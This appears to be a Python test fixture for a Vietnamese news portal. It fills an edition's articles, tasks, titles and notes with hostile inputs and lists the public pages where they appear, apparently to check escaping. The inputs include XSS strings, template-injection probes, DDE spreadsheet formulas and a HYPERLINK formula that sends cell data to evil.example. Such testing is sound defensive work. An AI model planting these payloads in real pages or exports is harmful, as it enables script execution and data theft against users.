"""An edition in which everything that people or pages can write is meant to do harm."""

from typing import Final
from urllib.parse import urlencode

from portal.actions import Pick
from portal.models import Edition
from tests.articles.factories import ArticleFactory, PublisherFactory, ThemeFactory
from tests.portal.factories import approved_task, cite, document, published_edition

RUN: Final = "<script>window.harmed=1</script>"
HANDLER: Final = "\"'><img src=x onerror=window.harmed=1>"
LEAVES: Final = "</title></textarea></script><svg onload=window.harmed=1>"
TEMPLATE: Final = "{{ 7|add:7 }}{% debug %}${7*7}"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BIDI: Final = "\u202egnuơg\u202c"
LINKS: Final = (
    "[a](javascript:window.harmed=1) [b](data:text/html;base64,PHNjcmlwdD4=) "
    '[c](https://ok.example "x\\" onmouseover=\\"window.harmed=1") ![d](https://evil.example/x.png)'
    "\n\n[e]\n\n[e]: vbscript:x"
)
MARKDOWN: Final = f"{RUN}{HANDLER}\n\n{LINKS}\n\n<iframe src=//evil.example></iframe>"
TITLE: Final = f"{RUN}{HANDLER}{LEAVES}{TEMPLATE}"
SLUG: Final = "danh-muc-doc-hai"


def hostile_edition() -> Edition:
    article = ArticleFactory(
        title=f"{FORMULA} {TITLE}",
        author=f"@SUM(1+1)*cmd|' /C calc'!A0{HANDLER}",
        publisher=PublisherFactory(name=f"+cmd|' /C calc'!A0{HANDLER}", full_text_allowed=True),
        source_url="https://bao.example/?a=%22%3E%3Cscript%3E&b='x'&c=javascript:1",
        body=f"={FORMULA} {TITLE} {BIDI}\n-2+3+cmd|' /C calc'!A0",
    )
    article.themes.add(ThemeFactory(name=f"{HANDLER}"[:60], slug="doc-hai"))
    known = document(number="05-CT/TW", kind="Chỉ thị", issuer=HANDLER, title=f"{TITLE}{FORMULA}")
    cite(article, known)
    task = approved_task(
        article,
        wording=f"-1+1 {TITLE}",
        responsible=[f"=1+1{HANDLER}"],
        taking_part=[f"@x{LEAVES}"],
        due=f"\r=1+1{HANDLER}",
    )
    return published_edition(
        Pick(article=article, note=MARKDOWN),
        Pick(task=task, note=MARKDOWN),
        title=f"Danh mục độc hại {TITLE}"[:200],
        introduction=MARKDOWN,
    )


def pages_of(edition: Edition) -> list[str]:
    """Every public page on which something of the edition stands, in both languages."""
    entry = edition.entries.get(position=1)
    [known] = entry.known_documents.all()
    at = f"/danh-muc/{edition.slug}/"
    pages = [
        *("/", "/danh-muc/", at, f"{at}an-ban/{edition.number}/", "/chu-de/", "/chu-de/doc-hai/"),
        *(f"/bai-viet/{entry.article_number}/", "/van-ban/", f"/van-ban/{known.slug}/"),
        *("/tim-kiem/", f"/tim-kiem/?{urlencode({'q': f'{TITLE}'})}", "/tim-kiem/?q=script"),
        f"/tim-kiem/?{urlencode({'q': 'window', 'publisher': entry.publisher})}",
        "/api/v1/",
    ]
    return [*pages, *(f"/en{page}" for page in pages)]
